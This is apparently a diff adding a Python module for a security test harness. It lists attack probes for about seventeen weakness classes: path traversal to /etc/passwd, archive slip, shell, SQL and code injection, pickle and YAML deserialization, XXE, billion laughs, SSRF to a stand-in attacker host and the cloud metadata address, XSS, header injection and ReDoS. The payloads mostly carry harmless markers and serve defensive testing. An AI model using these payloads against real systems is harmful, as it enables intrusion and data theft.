@@ -1,0 +1,112 @@
+"""The attack probes as data: payloads, the oracle that confirms them, the CWE, and what selects them.
+
+Each probe has a fixture pair under ``tests/attack/fixtures/<id>/`` (``vulnerable.py`` it confirms,
+``fixed.py`` it does not). Payload strings carry the marker ``sgx`` so that an oracle can tell the
+attacker's text from the code's own; ``{canary}`` becomes the path of a canary file the harness writes.
+"""
+
+from __future__ import annotations
+
+import base64
+from dataclasses import dataclass
+
+# Payload kinds: how a payload becomes an argument (see attack/inputs.py).
+TEXT, BINARY, ARCHIVE, INTEGER, PRINCIPAL = "text", "binary", "archive", "integer", "principal"
+ATTACKER_HOST = "sgx-attacker.example"
+
+
+def _b64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+@dataclass(frozen=True)
+class Probe:
+    """One attack: the inputs to send, the oracle that confirms an exploit, and when it applies."""
+
+    id: str
+    cwe: int
+    title: str
+    oracle: str  # a key of attack.oracles.ORACLES
+    payloads: tuple[str | int, ...]
+    kind: str = TEXT
+    sinks: tuple[str, ...] = ()  # names in the code (imports, calls, attributes) that select the probe
+    topics: tuple[str, ...] = ()  # words in the requirement that select the probe
+    setup: tuple[str, ...] = ()  # what the harness prepares first: "canary", "sqlite"
+    archive_format: str = ""  # ARCHIVE payloads: "tar" or "zip"
+
+
+_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "sgxsgxsgxsgxsgxsgxsgxsgxsgxsgx">'
+           + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
+           + "]><r>&i;</r>")
+
+PROBES: tuple[Probe, ...] = (
+    Probe("path-traversal", 22, "Path traversal", "path",
+          ("../../../../../../../etc/passwd", "/etc/passwd", "../../../../../../../tmp/sgx-evil.txt"),
+          sinks=("open", "send_file", "send_from_directory", "FileResponse", "read_text", "read_bytes",
+                 "write_text", "write_bytes", "os.path.join", "pathlib", "os.remove", "os.unlink", "shutil"),
+          topics=("file", "path", "directory", "folder", "upload", "download", "filename")),
+    Probe("archive-extraction", 22, "Archive extraction outside the target directory (zip/tar slip)", "path",
+          ("../../../../../../../tmp/sgx-slip.txt", "/tmp/sgx-slip-absolute.txt"), kind=ARCHIVE,
+          archive_format="tar", sinks=("tarfile", "extractall", "unpack_archive"), topics=("tar", "archive")),
+    Probe("zip-slip", 22, "Zip slip: a member path that leaves the target directory", "path",
+          ("../../../../../../../tmp/sgx-slip.txt",), kind=ARCHIVE, archive_format="zip",
+          sinks=("zipfile", "unpack_archive"), topics=("zip",)),
+    Probe("command-injection", 78, "OS command injection", "shell",
+          ("sgx; echo sgx-cmd", "sgx && echo sgx-cmd", "sgx | echo sgx-cmd", "$(echo sgx-cmd)", "`echo sgx-cmd`",
+           "sgx\necho sgx-cmd"),
+          sinks=("os.system", "os.popen", "subprocess", "commands", "pty", "os.spawn", "os.exec"),
+          topics=("command", "shell", "ping", "execute a program")),
+    Probe("sql-injection", 89, "SQL injection", "sql",
+          ("sgx' OR sgx_probe() OR 'sgx", "sgx' || sgx_probe() || 'sgx", "1 OR sgx_probe()",
+           'sgx" OR sgx_probe() OR "sgx', "sgx') OR sgx_probe() OR ('sgx", "sgx' OR sgx_probe() --"),
+          sinks=("sqlite3", "execute", "executemany", "executescript", "cursor"),
+          topics=("sql", "database", "query", "table"), setup=("sqlite",)),
+    Probe("code-injection", 95, "Code injection (eval/exec of attacker data)", "exec",
+          ("'sgx-code'", "sgx_code", "__import__('os').getpid() or 'sgx'", "sgx_code = 1", "[sgx_code]"),
+          sinks=("eval", "exec", "compile", "execfile", "InteractiveInterpreter", "runpy"),
+          topics=("expression", "evaluate", "calculator", "formula", "python code")),
+    Probe("pickle-deserialization", 502, "Deserialization of untrusted data (pickle)", "deserialize",
+          (_b64(b"ctarget\n_sgx_constructed\n(tR."), _b64(b"cos\ngetpid\n(tR.")), kind=BINARY,
+          sinks=("pickle", "cPickle", "_pickle", "dill", "shelve", "jsonpickle"),
+          topics=("pickle", "unpickle", "deserialize", "serialized")),
+    Probe("yaml-deserialization", 502, "Deserialization of untrusted data (YAML object construction)",
+          "deserialize", ("!!python/object/apply:target._sgx_constructed []",
+                          "- !!python/object/apply:target._sgx_constructed [sgx]"),
+          sinks=("yaml",), topics=("yaml", "yml")),
+    Probe("xxe", 611, "XML external entity (a canary file read)", "canary",
+          ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY sgx SYSTEM "file://{canary}">]><r>&sgx;</r>',
+           '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % sgx SYSTEM "file://{canary}"> %sgx;]><r>sgx</r>'),
+          sinks=("lxml", "xml.etree", "xml.dom", "xml.sax", "minidom", "pulldom", "XMLParser", "xml"),
+          topics=("xml", "soap", "svg", "rss"), setup=("canary",)),
+    Probe("xml-entity-expansion", 776, "XML entity expansion (billion laughs)", "resource", (_LAUGHS,),
+          sinks=("lxml", "xml.etree", "xml.dom", "xml.sax", "minidom", "XMLParser", "xml"), topics=("xml",)),
+    Probe("ssrf", 918, "Server-side request forgery", "network",
+          (f"http://{ATTACKER_HOST}/sgx", "http://169.254.169.254/latest/meta-data/", ATTACKER_HOST),
+          sinks=("requests", "urllib", "urlopen", "httpx", "http.client", "urllib3", "aiohttp", "socket"),
+          topics=("url", "fetch", "webhook", "proxy", "http")),
+    Probe("open-redirect", 601, "Open redirect", "redirect",
+          (f"https://{ATTACKER_HOST}/sgx", f"//{ATTACKER_HOST}/sgx", f"https:/{ATTACKER_HOST}/sgx"),
+          sinks=("redirect", "RedirectResponse", "HttpResponseRedirect", "Location"),
+          topics=("redirect", "next url", "return url", "return_to")),
+    Probe("xss", 79, "Cross-site scripting (the payload comes back unescaped in HTML)", "xss",
+          ("<script>sgx_xss()</script>", '"><img src=x onerror=sgx_xss()>', "<svg onload=sgx_xss()>"),
+          sinks=("render_template_string", "Markup", "HttpResponse", "make_response", "HTMLResponse", "Response",
+                 "mark_safe", "html"),
+          topics=("html", "web page", "comment", "render", "greet", "profile", "display")),
+    Probe("header-injection", 113, "HTTP response header injection (CR/LF)", "header",
+          ("sgx\r\nSet-Cookie: sgx=1", "sgx\nX-Sgx: 1"),
+          sinks=("headers", "set_cookie", "make_response", "Response", "HttpResponse"),
+          topics=("header", "cookie")),
+    Probe("redos", 1333, "Regular expression denial of service", "resource",
+          ("a" * 34 + "!", "a" * 30 + "@" + "a" * 30 + "!", "0" * 34 + "x", "a" * 25000 + "!",
+           " " * 20000 + "sgx", "a@" + "a." * 5000 + "!"),
+          sinks=("re", "regex"), topics=("regex", "regular expression", "pattern", "email")),
+    Probe("resource-exhaustion", 400, "Uncontrolled resource consumption", "resource",
+          (10 ** 10, 2 ** 40), kind=INTEGER,
+          topics=("repeat", "times", "count", "size", "allocate")),
+    Probe("missing-authorization", 862, "Missing authorization (a caller without the role or ownership succeeds)",
+          "authz", ("principal",), kind=PRINCIPAL,
+          topics=("admin", "administrator", "owner", "role", "permission", "authorized", "privilege", "moderator")),
+)
+
+BY_ID = {probe.id: probe for probe in PROBES}
